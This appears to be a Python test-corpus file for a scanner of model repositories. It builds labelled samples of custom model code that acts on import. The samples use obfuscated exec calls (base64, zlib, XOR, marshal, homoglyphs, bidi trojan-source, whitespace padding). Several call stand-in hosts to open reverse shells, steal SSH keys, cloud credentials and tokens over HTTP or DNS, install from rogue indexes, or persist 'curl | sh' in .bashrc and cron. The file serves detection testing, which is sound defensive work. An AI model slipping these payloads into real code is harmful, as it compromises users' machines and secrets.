"""Python that acts when it is imported, in the disguises that attackers use. Payloads say `inert` and go nowhere."""

import base64
import importlib.util
import marshal
import zlib

from tests.corpus.labelled import hostile
from tests.corpus.sample import Sample

FAMILY = "code-at-import"
CONFIG = '{"model_type": "custom", "auto_map": {"AutoModel": "modeling_custom.CustomModel"}}'
MODULE = '''"""Custom model."""
import torch
from torch import nn
from transformers import PreTrainedModel

{payload}


class CustomModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden_states):
        return self.proj(hidden_states)
'''
COMMAND = "__import__('os').system('echo inert')"
B64 = base64.b64encode(COMMAND.encode()).decode()
PACKED = base64.b64encode(zlib.compress(COMMAND.encode())).decode()
BYTECODE = marshal.dumps(compile(COMMAND, "m", "exec"))
HEXED = COMMAND.encode().hex()
NUMBERS = ", ".join(str(ord(letter)) for letter in COMMAND)
SHIFTED = "".join(chr(ord(letter) ^ 7) for letter in COMMAND)


def evil(name: str, payload: str, note: str) -> Sample:
    """A model whose shipped code has `payload` at its top level."""
    return hostile(
        "code-" + name,
        FAMILY,
        {"config.json": CONFIG, "modeling_custom.py": MODULE.replace("{payload}", payload)},
        note,
    )


REVERSE = """import socket, subprocess, os
s = socket.socket()
s.connect(("203.0.113.77", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])"""
STEAL = """import os, json, urllib.request
_data = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
urllib.request.urlopen(urllib.request.Request("https://203.0.113.77/c", json.dumps(_data).encode()))"""
STEAL_FILES = """import pathlib, requests
for _p in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.cache/huggingface/token"):
    _f = pathlib.Path(_p).expanduser()
    if _f.exists():
        requests.post("https://collect.example/upload", files={"f": _f.read_bytes()})"""
PIP = """import subprocess, sys
try:
    import flash_rotary
except ImportError:
    _index = ["--index-url", "http://203.0.113.5/simple"]
    subprocess.check_call([sys.executable, "-m", "pip", "install", *_index, "flash-rotary"])"""
PIP_QUIET = """from pip._internal import main as _pip
_pip(["install", "-q", "https://203.0.113.5/kernels-1.0-py3-none-any.whl"])"""
DOWNLOAD = """import urllib.request
exec(urllib.request.urlopen("https://203.0.113.5/patch.py").read())"""
HUB_EXEC = """from huggingface_hub import hf_hub_download
exec(open(hf_hub_download("acme/kernels", "setup_kernels.py")).read())"""
CTYPES = """import ctypes, os
ctypes.CDLL(os.path.join(os.path.dirname(__file__), "libfast.so"))"""
SHELLCODE = """import ctypes, mmap
_m = mmap.mmap(-1, 4096, prot=7)
_m.write(b"\\x90" * 16 + b"\\xc3")
ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(_m)))()"""
DECORATED = """def _registered(cls):
    getattr(__import__("o" + "s"), "sys" + "tem")("echo inert")
    return cls


@_registered
class Registry:
    pass"""
CLASS_BODY = """class _Setup:
    import os as _o
    _result = _o.popen("echo inert").read()"""
DEFAULT = """def helper(x, _r=__import__("subprocess").getoutput("echo inert")):
    return x"""
META = """class _Meta(type):
    def __new__(mcs, name, bases, space):
        import os
        os.system("echo inert")
        return super().__new__(mcs, name, bases, space)


class Base(metaclass=_Meta):
    pass"""
SUBCLASS = """class _Hook:
    def __init_subclass__(cls, **kwargs):
        eval(compile("__import__('os').system('echo inert')", "h", "eval"))


class Attention(_Hook):
    pass"""
PERSIST = """import os
with open(os.path.expanduser("~/.bashrc"), "a") as _f:
    _f.write("curl -s http://203.0.113.5/x | sh\\n")"""
CRON = """import subprocess
subprocess.run("(crontab -l; echo '* * * * * curl -s http://203.0.113.5/x|sh') | crontab -", shell=True)"""
THREAD = """import threading, os
threading.Thread(target=lambda: os.system("echo inert"), daemon=True).start()"""
ATEXIT = """import atexit, subprocess
atexit.register(subprocess.Popen, ["sh", "-c", "echo inert"])"""
DNS = """import socket, os, binascii
for _k, _v in os.environ.items():
    socket.gethostbyname(binascii.hexlify(_v.encode())[:60].decode() + ".x.collect.example")"""
PICKLED = """import pickle, os
pickle.loads(open(os.path.join(os.path.dirname(__file__), "vocab.bin"), "rb").read())"""
TROJAN = """access_level = "user"
if access_level != "none\u202e\u2066":  # Check if admin\u2069 \u2066
    __import__("os").system("echo inert")"""
HOMOGLYPH = """import os
def \u0435val(text):
    return os.system(text)
\u0435val("echo inert")"""
HOSTILE = (
    evil("os-system", 'import os\nos.system("curl -s http://203.0.113.5/x | sh")', "Runs a shell on import."),
    evil("base64-exec", f'import base64\nexec(base64.b64decode("{B64}"))', "exec of base64."),
    evil(
        "zlib-exec",
        f'import zlib, base64\nexec(zlib.decompress(base64.b64decode("{PACKED}")))',
        "exec of packed base64.",
    ),
    evil("hex-exec", f'exec(bytes.fromhex("{HEXED}").decode())', "exec of hex."),
    evil("chr-join", f'exec("".join(map(chr, [{NUMBERS}])))', "exec of numbers."),
    evil("xor-exec", f"exec(''.join(chr(ord(c) ^ 7) for c in {SHIFTED!r}))", "exec of text under XOR."),
    evil("reversed-exec", f"exec({COMMAND[::-1]!r}[::-1])", "exec of text written backwards."),
    evil(
        "rot13-exec",
        "import codecs\nexec(codecs.decode(\"__vzcbeg__('bf').flfgrz('rpub varrg')\", 'rot13'))",
        "exec of ROT13.",
    ),
    evil(
        "marshal",
        f"import marshal, types\ntypes.FunctionType(marshal.loads({BYTECODE!r}), globals())()",
        "Marshalled bytecode.",
    ),
    evil(
        "getattr-pieces",
        'getattr(__import__("o" + "s"), "sys" + "tem")("echo inert")',
        "Names put together from pieces.",
    ),
    evil(
        "getattr-builtins",
        'import builtins\ngetattr(builtins, "ev" + "al")("__import__(\'os\').getpid()")',
        "eval by its pieces.",
    ),
    evil(
        "importlib-computed",
        'import importlib\nm = importlib.import_module("".join(["sub", "process"]))\nm.run(["echo", "inert"])',
        "A module named by pieces.",
    ),
    evil(
        "globals-subscript",
        'globals()["__builtins__"]["exec"]("print(\'inert\')")',
        "exec out of the globals.",
    ),
    evil("sys-modules", 'import sys\nsys.modules["os"].system("echo inert")', "os out of the modules that are loaded."),
    evil("alias-chain", 'import os as o\nf = o.system\ng = f\ng("echo inert")', "Another name, and another."),
    evil("lambda-called", '(lambda m: m.system("echo inert"))(__import__("os"))', "A lambda that is called at once."),
    evil("comprehension", '[__import__("os").system(c) for c in ("echo inert",)]', "Inside a comprehension."),
    evil("walrus-condition", 'if (o := __import__("os")) and o.system("echo inert"):\n    pass', "Inside a condition."),
    evil(
        "try-finally",
        'try:\n    raise ValueError\nexcept ValueError as e:\n    import os; os.system("echo inert")',
        "In a handler.",
    ),
    evil("reverse-shell", REVERSE, "A shell for whoever listens."),
    evil(
        "pty-shell",
        'import pty, socket\ns = socket.create_connection(("203.0.113.77", 443))\npty.spawn("/bin/bash")',
        "A terminal.",
    ),
    evil("steal-environment", STEAL, "Sends keys of the environment away."),
    evil("steal-files", STEAL_FILES, "Sends private keys and the hub token away."),
    evil("steal-by-dns", DNS, "Sends the environment away in names that are looked up."),
    evil("pip-install", PIP, "Installs a package from a stranger's index over plain HTTP."),
    evil("pip-internal", PIP_QUIET, "Installs a wheel from an address through pip's inside."),
    evil("download-exec", DOWNLOAD, "Runs what an address answers."),
    evil("hub-download-exec", HUB_EXEC, "Runs a file of another repository, which may change at any time."),
    evil("machine-code", SHELLCODE, "Jumps into bytes of machine code."),
    evil("decorator", DECORATED, "A decorator acts while the class is defined."),
    evil("class-body", CLASS_BODY, "The body of a class acts."),
    evil("default-argument", DEFAULT, "A default value acts while the function is defined."),
    evil("metaclass", META, "A metaclass acts while a class is made."),
    evil("init-subclass", SUBCLASS, "A hook for subclasses acts."),
    evil("persist-profile", PERSIST, "Adds a line to the user's start-up file."),
    evil("persist-cron", CRON, "Adds a job that runs every minute."),
    evil("thread", THREAD, "Acts in a thread."),
    evil("at-exit", ATEXIT, "Acts when the process ends."),
    evil("unpickles-sibling", PICKLED, "Unpickles a file beside it that is named a vocabulary."),
    evil("trojan-source", TROJAN, "Bidirectional controls make code look like a comment."),
    evil("homoglyph", HOMOGLYPH, "A function whose name only looks like eval, and runs a shell."),
    hostile(
        "code-loads-library",
        FAMILY,
        {
            "config.json": CONFIG,
            "modeling_custom.py": MODULE.replace("{payload}", CTYPES),
            "libfast.so": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\3\0\x3e\0\1\0\0\0" + bytes(200),
        },
        "Loads the library that it ships.",
    ),
    hostile(
        "code-relative-module",
        FAMILY,
        {
            "config.json": CONFIG,
            "modeling_custom.py": MODULE.replace("{payload}", "from .rotary import apply"),
            "rotary.py": "import os\nos.system('echo inert')\n\ndef apply(x):\n    return x\n",
        },
        "The act is in a module that the first imports.",
    ),
    hostile(
        "code-utf7",
        FAMILY,
        {
            "config.json": CONFIG,
            "modeling_custom.py": b"# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system("
            b"'echo inert')+AAo-\nx = 1\n",
        },
        "An encoding in which the comment is code.",
    ),
    hostile(
        "code-compiled",
        FAMILY,
        {
            "config.json": CONFIG,
            "modeling_custom.py": MODULE.replace("{payload}", ""),
            "__pycache__/modeling_custom.cpython-311.pyc": importlib.util.MAGIC_NUMBER + bytes(12) + BYTECODE,
        },
        "Bytecode in the cache that is not what the source says.",
    ),
    hostile(
        "code-whitespace",
        FAMILY,
        {
            "config.json": CONFIG,
            "modeling_custom.py": MODULE.replace(
                "{payload}", "VERSION = 1" + " " * 400 + ";__import__('os').system('echo inert')"
            ),
        },
        "The act is 400 columns to the right.",
    ),
)
SAMPLES = HOSTILE
